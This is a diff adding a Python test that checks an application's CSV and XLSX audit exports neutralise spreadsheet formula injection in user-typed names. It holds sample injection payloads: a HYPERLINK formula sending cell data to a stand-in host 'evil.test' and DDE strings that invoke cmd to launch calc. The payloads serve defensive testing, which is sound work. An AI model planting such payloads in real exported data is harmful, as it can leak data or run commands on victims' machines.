@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from dataclasses import asdict
 from typing import Any
 
@@ -15,6 +16,7 @@ from openpyxl import load_workbook
 from conftest import EVE, Clock
 from quietday.persistence import Engine, session_scope
 from quietday.persistence.frequency import Subject
+from quietday.persistence.tables import EnterpriseRow, RegionRow
 from quietday.planning.frequency import frequency_page, live_rows, parse_period
 from seed import AGENCIES, Seeded
 from test_api_checkins import check_in
@@ -195,3 +197,70 @@ def test_the_dashboard_shows_what_happened_and_exports_the_audit(
     assert line["实际入企次数"] == "6"
     r = fc.get("/dashboard/exports/frequency.xlsx?by=city&period=2026")
     assert load_workbook(io.BytesIO(r.content)).active is not None
+
+
+HOSTILE = {
+    "enterprise": '=HYPERLINK("http://evil.test/?d="&A2,"详情")',
+    "agency": "+cmd|' /C calc'!A0",
+    "region": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+NUMBER = re.compile(r"^-?\d+(\.\d+)?$")  # a figure (headroom can be negative), not a formula
+
+
+def test_exports_make_every_cell_inert(fc: TestClient, audited: Seeded, engine: Engine) -> None:
+    """Names a user typed reach the CSV and XLSX exports (API and dashboard) as text that no
+    spreadsheet evaluates: a CSV field never starts with = + - @ TAB or CR (OWASP: a leading
+    apostrophe), an XLSX cell is never a formula; numbers stay numbers."""
+    supervisor = audited.auth()
+    renames = [
+        (f"/api/v1/enterprises/{audited.enterprises[0]}", HOSTILE["enterprise"]),
+        (f"/api/v1/agencies/{A}", HOSTILE["agency"]),
+        (f"/api/v1/agencies/{B}", "-2+3"),
+    ]
+    for path, name in renames:
+        assert fc.patch(path, json={"name": name}, headers=supervisor).status_code == 200
+    # Names the API may refuse today, as older data can hold them, and regions (no API renames).
+    with session_scope(engine, actor="cli") as s:
+        for n, name in ((1, "\t=1+1"), (2, "\r=1+1")):
+            row = s.get(EnterpriseRow, audited.enterprises[n])
+            assert row is not None
+            row.name = name
+        region = s.get(RegionRow, "360102")
+        assert region is not None
+        region.name = HOSTILE["region"]
+    assert login(fc, audited.supervisor).status_code == 200
+    names: set[str] = set()
+    for by in ("enterprise", "agency", "county"):
+        query = {"by": by, "period": "2026-07"}
+        for got in (
+            fc.get("/api/v1/audit/frequency.csv", params=query, headers=supervisor),
+            fc.get("/dashboard/exports/frequency.csv", params=query),
+        ):
+            assert got.status_code == 200
+            table = list(csv.reader(io.StringIO(got.content.decode("utf-8-sig"), newline="")))
+            fields = [f for line in table for f in line]
+            assert not [f for f in fields if f.startswith(TRIGGERS) and not NUMBER.match(f)], by
+            names |= {line[1] for line in table[1:]}
+            assert table[1][table[0].index("计划入企次数")].isdigit()
+        for got in (
+            fc.get("/api/v1/audit/frequency.xlsx", params=query, headers=supervisor),
+            fc.get("/dashboard/exports/frequency.xlsx", params=query),
+        ):
+            assert got.status_code == 200
+            sheet = load_workbook(io.BytesIO(got.content)).active
+            assert sheet is not None
+            cells = [c for row in sheet.iter_rows() for c in row]
+            assert [c.value for c in cells if c.data_type == "f"] == [], by
+            # Marked as Excel marks '=… typed by hand, so editing the cell keeps it text.
+            typed = [c for c in cells if isinstance(c.value, str) and c.value.startswith(TRIGGERS)]
+            assert typed, by
+            assert all(c.quotePrefix for c in typed), by
+            names |= {str(row[1].value) for row in sheet.iter_rows(min_row=2)}
+            header = [c.value for c in next(sheet.iter_rows(max_row=1))]
+            assert isinstance(sheet.cell(2, header.index("计划入企次数") + 1).value, int)
+    # The CSV keeps the text behind its apostrophe; the XLSX keeps it exactly.
+    for name in (HOSTILE["enterprise"], HOSTILE["agency"], HOSTILE["region"], "-2+3"):
+        assert {name, "'" + name} <= names
+    # (XML reads a CR back as LF: the XLSX cell of "\r=1+1" reads "\n=1+1".)
+    assert {"'\t=1+1", "\t=1+1", "'\r=1+1", "\n=1+1"} <= names
